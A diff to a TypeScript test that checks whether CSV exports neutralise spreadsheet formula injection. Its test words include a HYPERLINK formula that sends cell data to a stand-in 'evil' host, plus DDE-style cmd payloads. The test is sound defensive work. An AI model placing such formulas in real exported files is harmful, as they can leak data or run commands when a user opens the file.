@@ -7,7 +7,7 @@ import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { validateCall, type RunRecord } from '../src/shared/api'
 import { csvCell } from '../src/shared/csvCell'
-import { seedTableCsv } from '../src/shared/seedTable'
+import { seedTableText } from '../src/shared/seedTableExport'
 import { escapeUnsafe, unsafeTextProblem } from '../src/shared/textSafety'
 import { emergeTooltip, probeTooltip, updateGridTooltip, windowTooltip } from '../src/renderer/src/lib/chartTooltips'
 import { Lab } from '../src/main/lab/lab'
@@ -31,13 +31,13 @@ describe('CSV cells (item 21)', () => {
   it('the CLI/lab table and the page download neutralise the same words', async () => {
     // the page's module uses the DOM (not in the node type-check): imported by a path the checker does not follow
     const page = join(ROOT, 'src', 'renderer', 'src', 'lib', 'download.ts')
-    const { seedTableCsv: pageCsv } = (await import(page)) as { seedTableCsv: (runs: RunRecord[]) => string }
+    const { seedTableFile } = (await import(page)) as { seedTableFile: (runs: RunRecord[], format: 'csv', stamp: string) => { text: string } }
     const words = ['To', '=HYPERLINK("http://evil/?"&A1)', '@SUM(1+1)*cmd|"/C', '+1+cmd', '-2+3']
-    const lab = seedTableCsv([{ lr: -0.01, words }]).split('\r\n')
+    const run = { lr: -0.01, fullText: words.join(' '), prompt: '', phrase: null, modelRef: null, metrics: {} } as unknown as RunRecord
+    const lab = seedTableText([run], 'csv').split('\r\n')
     expect(lab[0]).toBe('gradStep,-0.01')
     expect(lab.slice(1, 6)).toEqual(['0,To', `1,"'=HYPERLINK(""http://evil/?""&A1)"`, `2,"'@SUM(1+1)*cmd|""/C"`, `3,"'+1+cmd"`, `4,"'-2+3"`])
-    const run = { lr: 0.01, fullText: words.join(' ') } as RunRecord
-    expect(pageCsv([run]).split('\r\n').slice(1, 6)).toEqual(lab.slice(1, 6))
+    expect(seedTableFile([run], 'csv', 'now').text.split('\r\n').slice(1, 6)).toEqual(lab.slice(1, 6))
   })
 
   describe('through the lab', () => {
